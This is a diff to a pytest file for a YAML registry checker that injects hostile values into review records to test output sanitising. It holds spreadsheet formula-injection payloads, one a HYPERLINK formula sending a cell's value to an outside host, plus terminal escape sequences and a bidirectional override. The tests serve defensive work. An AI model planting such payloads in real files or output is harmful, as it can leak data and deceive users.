@@ -21,6 +21,9 @@ DEMO = Path(__file__).resolve().parent.parent / "fleet_data"
 FORMULAS = {"reviewer": '=HYPERLINK("https://example.invalid/?"&A1,"x")', "reference": "+1+2",
             "comment": "@SUM(A1:A9)"}
 ESCAPES = "\x1b]0;window title\x07\x1b[2J\x1b[31mRed\x1b[0m \x9b1mC1\rBack\x08space\u202eevil"
+"""Escape sequences and controls: the loader refuses them in registry text (YAML 1.2.2 §5.1, c-printable)."""
+PRINTABLE_TRICKS = "Red C1\rBackspace\u202eevil"
+"""What YAML still lets through as text and a terminal would act on: a carriage return, a bidirectional override."""
 
 
 def quoted_yaml(text: str) -> str:
@@ -38,7 +41,7 @@ def quoted_yaml(text: str) -> str:
 
 @pytest.fixture(scope="module")
 def hostile_data(tmp_path_factory) -> Path:
-    """The demo with formulas in the first review's text fields and escape sequences in the second's."""
+    """The demo with formulas in the first review's text fields and terminal tricks in the second's."""
     data = tmp_path_factory.mktemp("hostile") / "data"
     shutil.copytree(DEMO, data)
     reviews = data / "reviews.yaml"
@@ -48,7 +51,7 @@ def hostile_data(tmp_path_factory) -> Path:
     head, rest = text.split(first, 1)
     text = head + f"reviewer: {quoted_yaml(FORMULAS['reviewer'])}\n" + rest
     head, rest = text.split(second, 1)
-    text = head + f"reviewer: {quoted_yaml(ESCAPES)}\n" + rest
+    text = head + f"reviewer: {quoted_yaml(PRINTABLE_TRICKS)}\n" + rest
     text = text.replace("reference: ENG-REQ-2026-118", f"reference: {quoted_yaml(FORMULAS['reference'])}", 1)
     text = re.sub(r"    comment: >-\n(      .*\n)+", f"    comment: {quoted_yaml(FORMULAS['comment'])}\n", text, count=1)
     reviews.write_text(text, encoding="utf-8")
@@ -95,8 +98,22 @@ def test_check_prints_no_control_characters(hostile_data, capsys):
     for char in out + err:
         assert char in "\n\t" or not (ord(char) < 0x20 or 0x7f <= ord(char) <= 0x9f or 0x202a <= ord(char) <= 0x202e)
     code, out, err = run(["check", str(hostile_data), "--format", "json"], capsys)
-    assert "\x1b" not in out and "\x9b" not in out and "\u202e" not in out
-    assert "\\u001b" in out and "\\u009b" in out  # escaped in JSON: the value itself is kept
+    assert "\r" not in out and "\u202e" not in out
+    assert "\\r" in out and "\\u202e" in out  # escaped in JSON: the value itself is kept
+
+
+def test_escape_sequences_written_into_the_registry_are_refused_and_never_printed(tmp_path, capsys):
+    data = tmp_path / "data"
+    shutil.copytree(DEMO, data)
+    reviews = data / "reviews.yaml"
+    text = reviews.read_text(encoding="utf-8").replace("reviewer: H. Quill\n", f"reviewer: {quoted_yaml(ESCAPES)}\n", 1)
+    reviews.write_text(text, encoding="utf-8")
+    line = next(n for n, row in enumerate(text.splitlines(), 1) if "window title" in row)
+    code, out, err = run(["check", str(data)], capsys)
+    assert code == 2
+    assert f"reviews.yaml:{line}:" in err and "found the control character U+001B (written as an escape)" in err
+    for char in out + err:
+        assert char in "\n\t" or not (ord(char) < 0x20 or 0x7f <= ord(char) <= 0x9f or 0x202a <= ord(char) <= 0x202e)
 
 
 @pytest.mark.parametrize("text, expected", [
